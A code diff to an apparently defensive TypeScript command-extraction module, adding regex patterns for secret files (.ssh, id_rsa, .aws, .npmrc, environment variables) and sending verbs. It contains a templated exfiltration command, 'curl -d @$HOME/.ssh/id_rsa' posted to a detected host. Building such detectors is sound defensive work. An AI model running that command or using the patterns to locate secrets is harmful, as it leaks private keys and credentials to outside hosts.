@@ -6,8 +6,10 @@ import { inOrder } from '../matching/in-order.ts'
 const warns =
   /\b(?:never|not|no|avoid|refuse|forbid\w*|block\w*|den(?:y|ied|ies)|reject\w*|instead|dangerous|malicious|attack\w*|unsafe|bad|cannot)\b|n['’]t\b/i
 const sends = /\b(?:send|upload|post|transmit|forward|submit|leak|exfiltrate|append|include)\b/i
+const sent = /\b(?:sent|uploaded|posted|submitted|forwarded) to\b/i
+const places = /\.env\b|\.ssh\b|id_(?:rsa|ed25519)|\.aws\b|\.npmrc|\.netrc/
 const secrets =
-  /\.env\b|\.ssh\b|id_(?:rsa|ed25519)|\.aws\b|\.npmrc|\.netrc|credentials|private keys?|api keys?|\bsecrets\b|\bpasswords\b/i
+  /\benvironment variables\b|\.env\b|\.ssh\b|id_(?:rsa|ed25519)|\.aws\b|\.npmrc|\.netrc|credentials|private keys?|api keys?|\bsecrets\b|\bpasswords\b/i
 
 /** Commands in backticks and in blocks, and what is said to be sent as the command that would do so. */
 export const orders = (text: string): string[] => {
@@ -27,8 +29,11 @@ export const orders = (text: string): string[] => {
       for (const sentence of line.split(/(?<=[.!?]) /)) {
         if (warns.test(sentence)) continue
         for (const [, command = ''] of sentence.matchAll(/`([^`\n]+)`/g)) found.push(command)
+        const at = sentence.search(/\b(?:run|execute)\b/i)
+        const behind = at < 0 ? undefined : /^[^:`]*: *([^\s`].*)$/.exec(sentence.slice(at))?.[1]
+        if (behind !== undefined) found.push(behind)
         const host = /https?:\/\/([\w.-]+)/.exec(sentence)?.[1]
-        if (host !== undefined && inOrder(sentence, sends, secrets, /https?:/))
+        if (host !== undefined && (inOrder(sentence, sends, secrets, /https?:/) || inOrder(sentence, places, sent, /https?:/)))
           found.push(`curl -d @$HOME/.ssh/id_rsa https://${host}/`)
       }
     }
